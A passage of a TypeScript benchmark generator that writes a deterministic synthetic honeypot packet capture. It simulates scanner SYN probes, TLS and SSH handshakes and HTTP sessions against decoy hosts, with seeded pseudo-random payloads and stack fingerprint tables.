/**
 * Synthetic honeypot capture for the read benchmark: a classic pcap (Ethernet, µs
 * timestamps) written deterministically from a seed — same seed, byte-identical file.
 *
 * What it looks like (seen from a sensor on the decky LAN): twenty deckies
 * (10.13.0.10–10.13.0.29) behind one router, many attacker sources. About 70 % of the
 * packets are SYN scans (nmap, masscan, zmap and plain OS stacks with their real SYN option
 * layouts, answered by RST/ACK or SYN/ACK + RST); the rest are complete TCP sessions with
 * correct sequence numbers: TLS 1.2 (certificate chains of 2–3 real certificates spread over
 * several segments) and TLS 1.3 handshakes from varied clients (GREASE, shuffled extensions,
 * post-quantum key shares that split the ClientHello), SSH (banners, KEXINIT both ways, ECDH,
 * encrypted login attempts) and HTTP/1.1 requests. Flows are interleaved in time (about three
 * minutes of traffic per million packets).
 *
 * The certificates are files under bench/fixtures/certs (made once by make-certs.sh); nothing
 * random or external runs here — all variation comes from one seeded PRNG. Output is streamed
 * through one reused chunk buffer, so memory does not grow with the packet count.
 *
 * CLI: npx tsx bench/generate-capture.ts --packets N --seed S --out FILE
 */
import { existsSync, readFileSync } from "node:fs";
import { open } from "node:fs/promises";
import { dirname, join, resolve } from "node:path";
import { fileURLToPath } from "node:url";

/** Bumped whenever the output for a given (packets, seed) changes; cached captures are keyed on it. */
export const GENERATOR_VERSION = 1;

export interface GenerateOptions {
  packets: number;
  seed: number;
  path: string;
}

/** What the generator wrote; `packets` and `bytes` (file size) are exact, the rest describes the mix. */
export interface CaptureSummary {
  packets: number;
  bytes: number;
  /** Packets belonging to SYN scans (probes and their answers). */
  scanPackets: number;
  /** SYN probes sent by scanners. */
  scanProbes: number;
  sessionPackets: number;
  tls12Sessions: number;
  tls13Sessions: number;
  /** TLS 1.2 sessions whose Certificate message carries three certificates (the rest carry two). */
  tls12ThreeCertChains: number;
  /** ClientHellos larger than one segment. */
  splitClientHellos: number;
  sshSessions: number;
  httpSessions: number;
  httpRequests: number;
  /** Distinct attacker addresses used (fresh ones are drawn at random; collisions are negligible). */
  attackerSources: number;
  /** Capture time span in seconds. */
  durationSeconds: number;
}

// ---------------------------------------------------------------------------------------
// Deterministic randomness

/** sfc32 (Chris Doty-Humphrey's Small Fast Counting generator): tiny, fast, good enough. */
export class Rng {
  private a = 0x9e3779b9;
  private b = 0x243f6a88;
  private c = 0xb7e15162;
  private d: number;
  constructor(seed: number) {
    this.d = seed >>> 0;
    this.c ^= Math.imul(seed >>> 0, 0x85ebca6b);
    for (let i = 0; i < 16; i++) this.u32();
  }
  u32(): number {
    const t = (((this.a + this.b) | 0) + this.d) | 0;
    this.d = (this.d + 1) | 0;
    this.a = this.b ^ (this.b >>> 9);
    this.b = (this.c + (this.c << 3)) | 0;
    this.c = (this.c << 21) | (this.c >>> 11);
    this.c = (this.c + t) | 0;
    return t >>> 0;
  }
  /** Uniform in [0, 1). */
  float(): number {
    return this.u32() / 4294967296;
  }
  /** Uniform integer in [0, n). */
  int(n: number): number {
    return Math.floor(this.float() * n);
  }
  /** Uniform integer in [lo, hi]. */
  range(lo: number, hi: number): number {
    return lo + this.int(hi - lo + 1);
  }
  chance(p: number): boolean {
    return this.float() < p;
  }
  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)];
  }
  /** Exponentially distributed with the given mean. */
  exp(mean: number): number {
    return -Math.log(1 - this.float()) * mean;
  }
  weighted<T>(items: readonly { w: number; v: T }[]): T {
    let total = 0;
    for (const it of items) total += it.w;
    let x = this.float() * total;
    for (const it of items) {
      x -= it.w;
      if (x < 0) return it.v;
    }
    return items[items.length - 1].v;
  }
  shuffle<T>(items: T[]): T[] {
    for (let i = items.length - 1; i > 0; i--) {
      const j = this.int(i + 1);
      const t = items[i];
      items[i] = items[j];
      items[j] = t;
    }
    return items;
  }
}

/** Stable per-address hash (murmur3 finaliser) so an attacker keeps its OS, tools and distance. */
function mix32(x: number): number {
  x ^= x >>> 16;
  x = Math.imul(x, 0x85ebca6b);
  x ^= x >>> 13;
  x = Math.imul(x, 0xc2b2ae35);
  x ^= x >>> 16;
  return x >>> 0;
}

// ---------------------------------------------------------------------------------------
// Byte building

/** Growable big-endian writer for payloads (handshake messages, records, SSH packets). */
class Bytes {
  buf: Buffer;
  len = 0;
  constructor(cap = 256) {
    this.buf = Buffer.alloc(cap);
  }
  private ensure(n: number): void {
    if (this.len + n <= this.buf.length) return;
    let cap = this.buf.length * 2;
    while (cap < this.len + n) cap *= 2;
    const nb = Buffer.alloc(cap);
    this.buf.copy(nb, 0, 0, this.len);
    this.buf = nb;
  }
  u8(v: number): this {
    this.ensure(1);
    this.buf[this.len++] = v & 0xff;
    return this;
  }
  u16(v: number): this {
    this.ensure(2);
    this.buf[this.len++] = (v >>> 8) & 0xff;
    this.buf[this.len++] = v & 0xff;
    return this;
  }
  u24(v: number): this {
    this.ensure(3);
    this.buf[this.len++] = (v >>> 16) & 0xff;
    this.buf[this.len++] = (v >>> 8) & 0xff;
    this.buf[this.len++] = v & 0xff;
    return this;
  }
  u32(v: number): this {
    this.ensure(4);
    this.buf.writeUInt32BE(v >>> 0, this.len);
    this.len += 4;
    return this;
  }
  bytes(b: Buffer, off = 0, end = b.length): this {
    this.ensure(end - off);
    b.copy(this.buf, this.len, off, end);
    this.len += end - off;
    return this;
  }
  str(s: string): this {
    this.ensure(s.length);
    this.len += this.buf.write(s, this.len, "latin1");
    return this;
  }
  zeros(n: number): this {
    this.ensure(n);
    this.buf.fill(0, this.len, this.len + n);
    this.len += n;
    return this;
  }
  /** Reserves a `size`-byte length field; close it with `end(mark, size)`. */
  mark(size: 1 | 2 | 3 | 4): number {
    const at = this.len;
    this.ensure(size);
    this.len += size;
    return at;
  }
  end(at: number, size: 1 | 2 | 3 | 4): this {
    const n = this.len - at - size;
    for (let i = size - 1; i >= 0; i--) this.buf[at + size - 1 - i] = (n >>> (8 * i)) & 0xff;
    return this;
  }
  out(): Buffer {
    return this.buf.subarray(0, this.len);
  }
}

// ---------------------------------------------------------------------------------------
// Certificates (our own, made once with openssl; see bench/fixtures/certs/make-certs.sh)

function fixturesDir(): string {
  // Works from bench/ (tsx) and from dist/bench/ (compiled).
  const here = dirname(fileURLToPath(import.meta.url));
  for (const cand of [join(here, "fixtures"), join(here, "..", "..", "bench", "fixtures")]) {
    if (existsSync(join(cand, "certs", "root.der"))) return cand;
  }
  throw new Error(`bench fixtures not found near ${here}`);
}

interface CertChain {
  /** DER certificates, leaf first. */
  certs: Buffer[];
  ec: boolean;
}

function loadChains(): CertChain[] {
  const dir = join(fixturesDir(), "certs");
  const der = (n: string) => readFileSync(join(dir, `${n}.der`));
  const root = der("root");
  const interRsa = der("inter-rsa");
  const interEc = der("inter-ec");
  const chains: CertChain[] = [];
  for (const [leaf, ec] of [
    ["leaf-mail", false],
    ["leaf-vpn", false],
    ["leaf-nas", false],
    ["leaf-portal", true],
    ["leaf-scada", true],
  ] as const) {
    const l = der(leaf);
    const inter = ec ? interEc : interRsa;
    chains.push({ certs: [l, inter], ec });
    chains.push({ certs: [l, inter, root], ec });
  }
  return chains;
}

// ---------------------------------------------------------------------------------------
// TCP/IP stacks

const SYN = 0x02;
const RST = 0x04;
const PSH = 0x08;
const ACK = 0x10;
const FIN = 0x01;

interface StackProfile {
  name: string;
  /** Initial TTL. */
  ttl: number;
  df: boolean;
  synWin: number;
  /** Window after the handshake (already scaled down). */
  dataWin: number;
  /** SYN options, with the TSval at `tsOff` (-1: no timestamps). */
  synOpts: Buffer;
  tsOff: number;
  sack: boolean;
  wscale: boolean;
  ipid: "counter" | "random" | "fixed";
}

const MSS1460 = [0x02, 0x04, 0x05, 0xb4];
const STACKS: Record<string, StackProfile> = {
  linux: {
    name: "linux",
    ttl: 64,
    df: true,
    synWin: 64240,
    dataWin: 502,
    synOpts: Buffer.from([
      ...MSS1460,
      0x04,
      0x02,
      0x08,
      0x0a,
      0,
      0,
      0,
      0,
      0,
      0,
      0,
      0,
      0x01,
      0x03,
      0x03,
      0x07,
    ]),
    tsOff: 8,
    sack: true,
    wscale: true,
    ipid: "counter",
  },
  windows: {
    name: "windows",
    ttl: 128,
    df: true,
    synWin: 64240,
    dataWin: 1026,
    synOpts: Buffer.from([...MSS1460, 0x01, 0x03, 0x03, 0x08, 0x01, 0x01, 0x04, 0x02]),
    tsOff: -1,
    sack: true,
    wscale: true,
    ipid: "counter",
  },
  macos: {
    name: "macos",
    ttl: 64,
    df: true,
    synWin: 65535,
    dataWin: 2058,
    synOpts: Buffer.from([
      ...MSS1460,
      0x01,
      0x03,
      0x03,
      0x06,
      0x01,
      0x01,
      0x08,
      0x0a,
      0,
      0,
      0,
      0,
      0,
      0,
      0,
      0,
      0x04,
      0x02,
      0x00,
      0x00,
    ]),
    tsOff: 12,
    sack: true,
    wscale: true,
    ipid: "counter",
  },
  nmap: {
    name: "nmap",
    ttl: 0, // nmap picks a random initial TTL per scan (37..59)
    df: false,
    synWin: 1024,
    dataWin: 1024,
    synOpts: Buffer.from(MSS1460),
    tsOff: -1,
    sack: false,
    wscale: false,
    ipid: "random",
  },
  masscan: {
    name: "masscan",
    ttl: 255,
    df: false,
    synWin: 1024,
    dataWin: 1024,
    synOpts: Buffer.alloc(0),
    tsOff: -1,
    sack: false,
    wscale: false,
    ipid: "random",
  },
  zmap: {
    name: "zmap",
    ttl: 255,
    df: false,
    synWin: 65535,
    dataWin: 65535,
    synOpts: Buffer.from(MSS1460),
    tsOff: -1,
    sack: false,
    wscale: false,
    ipid: "fixed",
  },
};

/** NOP NOP TS — the options of every non-SYN segment once timestamps are agreed. */
const TS_OPTS = Buffer.from([0x01, 0x01, 0x08, 0x0a, 0, 0, 0, 0, 0, 0, 0, 0]);

/** The decky's (Linux) SYN/ACK options mirror what the SYN offered. */
function synAckOptions(sack: boolean, ts: boolean, ws: boolean): { opts: Buffer; tsOff: number } {
  const o = [...MSS1460];
  let tsOff = -1;
  if (sack && ts) {
    o.push(0x04, 0x02, 0x08, 0x0a);
    tsOff = o.length;
    o.push(0, 0, 0, 0, 0, 0, 0, 0);
  } else if (ts) {
    o.push(0x01, 0x01, 0x08, 0x0a);
    tsOff = o.length;
    o.push(0, 0, 0, 0, 0, 0, 0, 0);
  } else if (sack) {
    o.push(0x01, 0x01, 0x04, 0x02);
  }
  if (ws) o.push(0x01, 0x03, 0x03, 0x07);
  return { opts: Buffer.from(o), tsOff };
}
const SYNACK_OPTS = new Map<number, { opts: Buffer; tsOff: number }>();
function synAckOpts(sack: boolean, ts: boolean, ws: boolean): { opts: Buffer; tsOff: number } {
  const key = (sack ? 1 : 0) | (ts ? 2 : 0) | (ws ? 4 : 0);
  let v = SYNACK_OPTS.get(key);
  if (v === undefined) {
    v = synAckOptions(sack, ts, ws);
    SYNACK_OPTS.set(key, v);
  }
  return v;
}

// ---------------------------------------------------------------------------------------
// Packets, flows and the time-ordered merge

const NO_MAC = Buffer.alloc(6);

/**
 * One packet to write. Instances are recycled through the generator's free list, so the
 * steady state allocates no packet objects.
 */
class Pkt {
  /** Capture time in µs since the epoch. */
  t = 0;
  /** Push order, the tie-breaker that keeps the merge deterministic. */
  ord = 0;
  src = 0;
  dst = 0;
  smac: Buffer = NO_MAC;
  dmac: Buffer = NO_MAC;
  sport = 0;
  dport = 0;
  ttl = 0;
  df = false;
  ipid = 0;
  seq = 0;
  ack = 0;
  flags = 0;
  win = 0;
  opts: Buffer | null = null;
  /** Offset of the TSval inside `opts`, -1 without timestamps. */
  tsOff = -1;
  tsval = 0;
  tsecr = 0;
  data: Buffer | null = null;
  dOff = 0;
  dLen = 0;

  ip(
    t: number,
    src: number,
    dst: number,
    smac: Buffer,
    dmac: Buffer,
    ttl: number,
    df: boolean,
    ipid: number,
  ): this {
    this.t = t;
    this.src = src;
    this.dst = dst;
    this.smac = smac;
    this.dmac = dmac;
    this.ttl = ttl;
    this.df = df;
    this.ipid = ipid;
    return this;
  }

  tcp(sport: number, dport: number, seq: number, ack: number, flags: number, win: number): this {
    this.sport = sport;
    this.dport = dport;
    this.seq = seq;
    this.ack = ack;
    this.flags = flags;
    this.win = win;
    return this;
  }

  options(opts: Buffer | null, tsOff: number, tsval: number, tsecr: number): this {
    this.opts = opts;
    this.tsOff = tsOff;
    this.tsval = tsval;
    this.tsecr = tsecr;
    return this;
  }

  payload(data: Buffer | null, off: number, len: number): this {
    this.data = data;
    this.dOff = off;
    this.dLen = len;
    return this;
  }
}

/** Binary min-heap on (t, ord). Holds only packets of flows in progress (bounded by the event rate × flow life). */
class PktHeap {
  private a: Pkt[] = [];
  get size(): number {
    return this.a.length;
  }
  peek(): Pkt {
    return this.a[0];
  }
  private static less(x: Pkt, y: Pkt): boolean {
    return x.t < y.t || (x.t === y.t && x.ord < y.ord);
  }
  push(p: Pkt): void {
    const a = this.a;
    let i = a.length;
    a.push(p);
    while (i > 0) {
      const parent = (i - 1) >> 1;
      if (!PktHeap.less(p, a[parent])) break;
      a[i] = a[parent];
      i = parent;
    }
    a[i] = p;
  }
  pop(): Pkt {
    const a = this.a;
    const top = a[0];
    const last = a.pop()!;
    const n = a.length;
    if (n > 0) {
      let i = 0;
      for (;;) {
        const l = 2 * i + 1;
        if (l >= n) break;
        const r = l + 1;
        const c = r < n && PktHeap.less(a[r], a[l]) ? r : l;
        if (!PktHeap.less(a[c], last)) break;
        a[i] = a[c];
        i = c;
      }
      a[i] = last;
    }
    return top;
  }
}

interface Decky {
  ip: number;
  mac: Buffer;
  tls13: boolean;
  chain: CertChain;
  ssh: SshServer;
  httpServer: string;
  /** Ports that answer SYN/ACK to scans. */
  open: Set<number>;
}

interface Attacker {
  ip: number;
  h: number;
  os: StackProfile;
  scanTool: StackProfile;
  hops: number;
  /** Round-trip time seen from the decky, µs. */
  rtt: number;
}

/**
 * One TCP connection being scripted. Time model (vantage point at the decky): a decky
 * answers within a few hundred µs; the attacker's reaction arrives one RTT later.
 */
class Conv {
  readonly pk: Pkt[] = [];
  t: number;
  private last = -1;
  readonly seq: [number, number];
  private readonly ts: boolean;
  private readonly tsBase: [number, number];
  private readonly lastTs: [number, number] = [0, 0];
  private readonly ipid: [number, number];
  /** Largest payload per segment, per sending direction. */
  private readonly mss: [number, number];
  constructor(
    private readonly g: CaptureGenerator,
    readonly a: Attacker,
    readonly d: Decky,
    readonly cport: number,
    readonly sport: number,
    t0: number,
  ) {
    const r = g.rng;
    this.t = t0;
    this.seq = [r.u32(), r.u32()];
    this.ts = a.os.tsOff >= 0;
    this.tsBase = [r.u32(), r.u32()];
    this.ipid = [r.int(65536), r.int(65536)];
    const both = this.ts ? 1448 : 1460;
    this.mss = [both, both];
  }
  private advance(dir: number): void {
    const r = this.g.rng;
    if (this.last === -1) {
      // first packet at t0
    } else if (dir === this.last) this.t += 6 + r.int(40);
    else if (dir === 0) this.t += this.a.rtt + r.int((this.a.rtt >> 4) + 1);
    else this.t += 40 + r.int(400);
    this.last = dir;
  }
  /** Extra time before the next packet (think time). */
  wait(us: number): void {
    this.t += Math.floor(us);
  }
  pkt(dir: number, flags: number, data: Buffer | null = null, dOff = 0, dLen = 0, ackOverride = -1): Pkt {
    this.advance(dir);
    const a = this.a;
    const d = this.d;
    const client = dir === 0;
    const syn = (flags & SYN) !== 0;
    let opts: Buffer | null = null;
    let tsOff = -1;
    if (syn && client) {
      opts = a.os.synOpts.length > 0 ? a.os.synOpts : null;
      tsOff = a.os.tsOff;
    } else if (syn) {
      const o = synAckOpts(a.os.sack, this.ts, a.os.wscale);
      opts = o.opts;
      tsOff = o.tsOff;
    } else if (this.ts && (flags & RST) === 0) {
      opts = TS_OPTS;
      tsOff = 4;
    }
    const tsval = (this.tsBase[dir] + Math.floor((this.t - this.g.t0) / 1000)) >>> 0;
    let ipid: number;
    if (!client && syn) ipid = 0;
    else {
      ipid = this.ipid[dir];
      this.ipid[dir] = (ipid + 1) & 0xffff;
    }
    const p = this.g.newPkt();
    if (client) p.ip(this.t, a.ip, d.ip, this.g.routerMac, d.mac, a.os.ttl - a.hops, a.os.df, ipid);
    else p.ip(this.t, d.ip, a.ip, d.mac, this.g.routerMac, 64, true, ipid);
    p.tcp(
      client ? this.cport : this.sport,
      client ? this.sport : this.cport,
      this.seq[dir],
      flags & ACK ? (ackOverride >= 0 ? ackOverride : this.seq[1 - dir]) : 0,
      flags,
      syn ? (client ? a.os.synWin : this.ts ? 65160 : 64240) : client ? a.os.dataWin : 509,
    );
    p.options(opts, tsOff, tsval, syn && client ? 0 : this.lastTs[1 - dir]);
    p.payload(data, dOff, dLen);
    this.lastTs[dir] = tsval;
    this.seq[dir] = (this.seq[dir] + dLen + (syn ? 1 : 0) + (flags & FIN ? 1 : 0)) >>> 0;
    this.pk.push(p);
    return p;
  }
  handshake(): void {
    this.pkt(0, SYN);
    this.pkt(1, SYN | ACK);
    this.pkt(0, ACK);
  }
  /**
   * Sends `data` from `dir` in MSS-sized segments (PSH on the last one), then, when asked,
   * the receiver acknowledges every second segment and the last (delayed ACK).
   */
  send(dir: number, data: Buffer, ackBy = false): void {
    const mss = this.mss[dir];
    const startSeq = this.seq[dir];
    const ends: number[] = [];
    for (let off = 0; off < data.length; off += mss) {
      const n = Math.min(mss, data.length - off);
      this.pkt(dir, ACK | (off + n >= data.length ? PSH : 0), data, off, n);
      ends.push(off + n);
    }
    if (!ackBy) return;
    for (let i = 1; i < ends.length; i += 2) {
      if (i === ends.length - 1) break;
      this.pkt(1 - dir, ACK, null, 0, 0, (startSeq + ends[i]) >>> 0);
    }
    this.pkt(1 - dir, ACK);
  }
  /** Orderly close started by `dir`: FIN, FIN/ACK (or ACK then FIN), ACK. */
  close(dir: number): void {
    this.pkt(dir, FIN | ACK);
    if (this.g.rng.chance(0.3)) {
      this.pkt(1 - dir, ACK);
      this.wait(50 + this.g.rng.int(500));
    }
    this.pkt(1 - dir, FIN | ACK);
    this.pkt(dir, ACK);
  }
}

// ---------------------------------------------------------------------------------------
// TLS

const GREASE_FIRST = -1;
const GREASE_LAST = -2;

interface TlsClient {
  name: string;
  w: number;
  recordVersion: number;
  tls13: boolean;
  grease: boolean;
  /** Chrome-style per-connection extension order (GREASE stays first and last). */
  shuffle: boolean;
  sessionId: boolean;
  ciphers: number[];
  exts: number[];
  groups: number[];
  keyShares: number[];
  sigalgs: number[];
  pointFormats: number[];
  versions: number[];
  alpn: string[][];
  /** Probability of sending SNI (attackers often connect by address only). */
  sni: number;
  compressCert?: number[];
  /** Closes right after the server's first flight (scanners collecting certificates). */
  abort: number;
}

const SIG_CHROME = [0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501, 0x0806, 0x0601];
const SIG_FIREFOX = [0x0403, 0x0503, 0x0603, 0x0804, 0x0805, 0x0806, 0x0401, 0x0501, 0x0601, 0x0203, 0x0201];
const SIG_OPENSSL3 = [
  0x0403, 0x0503, 0x0603, 0x0807, 0x0808, 0x081a, 0x081b, 0x081c, 0x0809, 0x080a, 0x080b, 0x0804, 0x0805,
  0x0806, 0x0401, 0x0501, 0x0601, 0x0303, 0x0301, 0x0302, 0x0402, 0x0502, 0x0602,
];
const SIG_GO = [
  0x0804, 0x0403, 0x0807, 0x0805, 0x0806, 0x0401, 0x0501, 0x0601, 0x0503, 0x0603, 0x0201, 0x0203,
];
const SIG_OLD = [
  0x0601, 0x0602, 0x0603, 0x0501, 0x0502, 0x0503, 0x0401, 0x0402, 0x0403, 0x0301, 0x0302, 0x0303, 0x0201,
  0x0202, 0x0203,
];
const CH_CHROME = [
  0x1301, 0x1302, 0x1303, 0xc02b, 0xc02f, 0xc02c, 0xc030, 0xcca9, 0xcca8, 0xc013, 0xc014, 0x009c, 0x009d,
  0x002f, 0x0035,
];
const CH_OPENSSL3 = [
  0x1302, 0x1303, 0x1301, 0xc02c, 0xc030, 0x009f, 0xcca9, 0xcca8, 0xccaa, 0xc02b, 0xc02f, 0x009e, 0xc024,
  0xc028, 0x006b, 0xc023, 0xc027, 0x0067, 0xc00a, 0xc014, 0x0039, 0xc009, 0xc013, 0x0033, 0x009d, 0x009c,
  0x003d, 0x003c, 0x0035, 0x002f, 0x00ff,
];
const CH_OLD = [
  0xc030, 0xc02c, 0xc028, 0xc024, 0xc014, 0xc00a, 0x00a5, 0x00a3, 0x00a1, 0x009f, 0x006b, 0x006a, 0x0069,
  0x0068, 0x0039, 0x0038, 0x0037, 0x0036, 0x0088, 0x0087, 0x0086, 0x0085, 0xc032, 0xc02e, 0xc02a, 0xc026,
  0xc00f, 0xc005, 0x009d, 0x003d, 0x0035, 0x0084, 0xc02f, 0xc02b, 0xc027, 0xc023, 0xc013, 0xc009, 0x00a4,
  0x00a2, 0x00a0, 0x009e, 0x0067, 0x0040, 0x003f, 0x003e, 0x0033, 0x0032, 0x0031, 0x0030, 0x009a, 0x0099,
  0x0098, 0x0097, 0x0045, 0x0044, 0x0043, 0x0042, 0xc031, 0xc02d, 0xc029, 0xc025, 0xc00e, 0xc004, 0x009c,
  0x003c, 0x002f, 0x0096, 0x0041, 0xc011, 0xc007, 0xc00c, 0xc002, 0x0005, 0x0004, 0xc012, 0xc008, 0x0016,
  0x0013, 0x0010, 0x000d, 0xc00d, 0xc003, 0x000a, 0x00ff,
];
const H2 = ["h2", "http/1.1"];

const CHROME120: TlsClient = {
  name: "chrome120",
  w: 12,
  recordVersion: 0x0301,
  tls13: true,
  grease: true,
  shuffle: true,
  sessionId: true,
  ciphers: CH_CHROME,
  exts: [GREASE_FIRST, 0, 23, 0xff01, 10, 11, 35, 16, 5, 13, 18, 51, 45, 43, 27, 17513, 0xfe0d, GREASE_LAST],
  groups: [0x001d, 0x0017, 0x0018],
  keyShares: [0x001d],
  sigalgs: SIG_CHROME,
  pointFormats: [0],
  versions: [0x0304, 0x0303],
  alpn: [H2],
  sni: 0.5,
  compressCert: [2],
  abort: 0,
};

const TLS_CLIENTS: TlsClient[] = [
  CHROME120,
  // Chrome 131: the ALPS codepoint moved, X25519MLKEM768 leads the groups and key shares.
  {
    ...CHROME120,
    name: "chrome131",
    exts: CHROME120.exts.map((e) => (e === 17513 ? 17613 : e)),
    groups: [0x11ec, ...CHROME120.groups],
    keyShares: [0x11ec, ...CHROME120.keyShares],
  },

  {
    name: "firefox128",
    w: 8,
    recordVersion: 0x0301,
    tls13: true,
    grease: false,
    shuffle: false,
    sessionId: true,
    ciphers: [
      0x1301, 0x1303, 0x1302, 0xc02b, 0xc02f, 0xcca9, 0xcca8, 0xc02c, 0xc030, 0xc00a, 0xc009, 0xc013, 0xc014,
      0x009c, 0x009d, 0x002f, 0x0035,
    ],
    exts: [0, 23, 0xff01, 10, 11, 35, 16, 5, 34, 18, 51, 43, 13, 45, 28, 27, 0xfe0d],
    groups: [0x001d, 0x0017, 0x0018, 0x0019, 0x0100, 0x0101],
    keyShares: [0x001d, 0x0017],
    sigalgs: SIG_FIREFOX,
    pointFormats: [0],
    versions: [0x0304, 0x0303],
    alpn: [H2],
    sni: 0.6,
    compressCert: [1, 2, 3],
    abort: 0,
  },
  {
    name: "curl-openssl3",
    w: 14,
    recordVersion: 0x0301,
    tls13: true,
    grease: false,
    shuffle: false,
    sessionId: true,
    ciphers: CH_OPENSSL3,
    exts: [0, 11, 10, 35, 16, 22, 23, 49, 13, 43, 45, 51],
    groups: [0x001d, 0x0017, 0x001e, 0x0019, 0x0018, 0x0100, 0x0101, 0x0102, 0x0103, 0x0104],
    keyShares: [0x001d],
    sigalgs: SIG_OPENSSL3,
    pointFormats: [0, 1, 2],
    versions: [0x0304, 0x0303],
    alpn: [H2, ["http/1.1"]],
    sni: 0.4,
    abort: 0.1,
  },
  {
    name: "python-requests",
    w: 14,
    recordVersion: 0x0301,
    tls13: true,
    grease: false,
    shuffle: false,
    sessionId: true,
    ciphers: [
      0x1302, 0x1303, 0x1301, 0xc02c, 0xc030, 0xc02b, 0xc02f, 0xcca9, 0xcca8, 0x009f, 0x009e, 0xccaa, 0xc0af,
      0xc0ad, 0xc0ae, 0xc0ac, 0xc024, 0xc028, 0xc023, 0xc027, 0xc00a, 0xc014, 0xc009, 0xc013, 0xc0a3, 0xc09f,
      0xc0a2, 0xc09e, 0x006b, 0x0067, 0x0039, 0x0033, 0x009d, 0x009c, 0xc0a1, 0xc09d, 0xc0a0, 0xc09c, 0x003d,
      0x003c, 0x0035, 0x002f, 0x00ff,
    ],
    exts: [0, 11, 10, 35, 16, 22, 23, 49, 13, 43, 45, 51],
    groups: [0x001d, 0x0017, 0x001e, 0x0019, 0x0018],
    keyShares: [0x001d],
    sigalgs: SIG_OPENSSL3,
    pointFormats: [0, 1, 2],
    versions: [0x0304, 0x0303],
    alpn: [["http/1.1"], []],
    sni: 0.3,
    abort: 0.1,
  },
  {
    name: "go",
    w: 18,
    recordVersion: 0x0301,
    tls13: true,
    grease: false,
    shuffle: false,
    sessionId: true,
    ciphers: [
      0xc02b, 0xc02f, 0xc02c, 0xc030, 0xcca9, 0xcca8, 0xc009, 0xc013, 0xc00a, 0xc014, 0x009c, 0x009d, 0x002f,
      0x0035, 0xc012, 0x000a, 0x1301, 0x1302, 0x1303,
    ],
    exts: [0, 5, 10, 11, 13, 0xff01, 16, 18, 23, 43, 51, 35, 45],
    groups: [0x001d, 0x0017, 0x0018, 0x0019],
    keyShares: [0x001d],
    sigalgs: SIG_GO,
    pointFormats: [0],
    versions: [0x0304, 0x0303],
    alpn: [H2, ["http/1.1"], [], ["\xab\xcd"]],
    sni: 0.3,
    abort: 0.3,
  },
  {
    name: "zgrab2-tls12",
    w: 12,
    recordVersion: 0x0301,
    tls13: false,
    grease: false,
    shuffle: false,
    sessionId: false,
    ciphers: [
      0xc02f, 0xc02b, 0xc011, 0xc007, 0xc013, 0xc009, 0xc014, 0xc00a, 0x0005, 0x002f, 0x0035, 0xc012, 0x000a,
    ],
    exts: [5, 10, 11, 13, 0xff01, 18],
    groups: [0x0017, 0x0018, 0x0019],
    keyShares: [],
    sigalgs: [0x0401, 0x0403, 0x0501, 0x0503, 0x0601, 0x0603, 0x0201, 0x0203],
    pointFormats: [0],
    versions: [],
    alpn: [[]],
    sni: 0,
    abort: 0.7,
  },
  {
    name: "openssl102",
    w: 10,
    recordVersion: 0x0301,
    tls13: false,
    grease: false,
    shuffle: false,
    sessionId: false,
    ciphers: CH_OLD,
    exts: [0, 11, 10, 35, 13, 15],
    groups: [
      0x0017, 0x0019, 0x001c, 0x001b, 0x0018, 0x001a, 0x0016, 0x000e, 0x000d, 0x000b, 0x000c, 0x0009, 0x000a,
    ],
    keyShares: [],
    sigalgs: SIG_OLD,
    pointFormats: [0, 1, 2],
    versions: [],
    alpn: [[]],
    sni: 0.3,
    abort: 0.3,
  },
];

const SNI_NAMES = [
  "mail.nordwind-logistik.example",
  "vpn.lonestar-cu.example",
  "nas01.harrowvale.example",
  "portal.havenkraan.example",
  "hmi-gw.hydro-rhone.example",
  "remote.lonestar-cu.example",
  "autodiscover.nordwind-logistik.example",
  "www.havenkraan.example",
  "localhost",
  "example.com",
  "www.google.com",
  "api.internal.example",
];

/** Sizes of key_share public keys per named group. */
function keyShareLen(group: number): number {
  switch (group) {
    case 0x001d:
      return 32;
    case 0x001e:
      return 56;
    case 0x0017:
      return 65;
    case 0x0018:
      return 97;
    case 0x0019:
      return 133;
    case 0x11ec:
    case 0x6399:
      return 1216;
    default:
      return 32;
  }
}

const GREASE = [
  0x0a0a, 0x1a1a, 0x2a2a, 0x3a3a, 0x4a4a, 0x5a5a, 0x6a6a, 0x7a7a, 0x8a8a, 0x9a9a, 0xaaaa, 0xbaba, 0xcaca,
  0xdada, 0xeaea, 0xfafa,
];

const ECDHE_RSA = [0xc02f, 0xc030, 0xcca8, 0xc013, 0xc014, 0xc027, 0xc028, 0xc011];
const ECDHE_ECDSA = [0xc02b, 0xc02c, 0xcca9, 0xc009, 0xc00a, 0xc023, 0xc024, 0xc007];
const RSA_KX = [0x009c, 0x009d, 0x002f, 0x0035, 0x000a];

class TlsBuilder {
  constructor(private readonly g: CaptureGenerator) {}

  private rand(w: Bytes, n: number): void {
    this.g.randBytes(w, n);
  }

  private record(w: Bytes, type: number, version: number, body: (w: Bytes) => void): void {
    w.u8(type).u16(version);
    const m = w.mark(2);
    body(w);
    w.end(m, 2);
  }

  private handshake(w: Bytes, type: number, body: (w: Bytes) => void): void {
    w.u8(type);
    const m = w.mark(3);
    body(w);
    w.end(m, 3);
  }

  /** Encrypted record of `n` body bytes (ciphertext is just PRNG bytes). */
  encrypted(w: Bytes, type: number, n: number): void {
    w.u8(type).u16(0x0303).u16(n);
    this.rand(w, n);
  }

  clientHello(c: TlsClient, sni: string | undefined, alpn: string[]): Buffer {
    const r = this.g.rng;
    const greases = r.shuffle(GREASE.slice());
    const [gCipher, gExt1, gExt2, gGroup, gVer] = greases;
    let exts = c.exts.slice();
    if (c.shuffle) {
      const mid = exts.filter((e) => e !== GREASE_FIRST && e !== GREASE_LAST);
      r.shuffle(mid);
      exts = [GREASE_FIRST, ...mid, GREASE_LAST];
    }
    const w = new Bytes(2048);
    this.record(w, 0x16, c.recordVersion, (w) =>
      this.handshake(w, 0x01, (w) => {
        w.u16(0x0303);
        this.rand(w, 32);
        if (c.sessionId) {
          w.u8(32);
          this.rand(w, 32);
        } else w.u8(0);
        const cs = w.mark(2);
        if (c.grease) w.u16(gCipher);
        for (const x of c.ciphers) w.u16(x);
        w.end(cs, 2);
        w.u8(1).u8(0);
        const el = w.mark(2);
        for (const e of exts) {
          if (e === GREASE_FIRST) {
            w.u16(gExt1).u16(0);
            continue;
          }
          if (e === GREASE_LAST) {
            w.u16(gExt2).u16(1).u8(0);
            continue;
          }
          if (e === 0 && sni === undefined) continue;
          if (e === 16 && alpn.length === 0) continue;
          w.u16(e);
          const m = w.mark(2);
          this.clientExt(w, e, c, sni, alpn, gGroup, gVer);
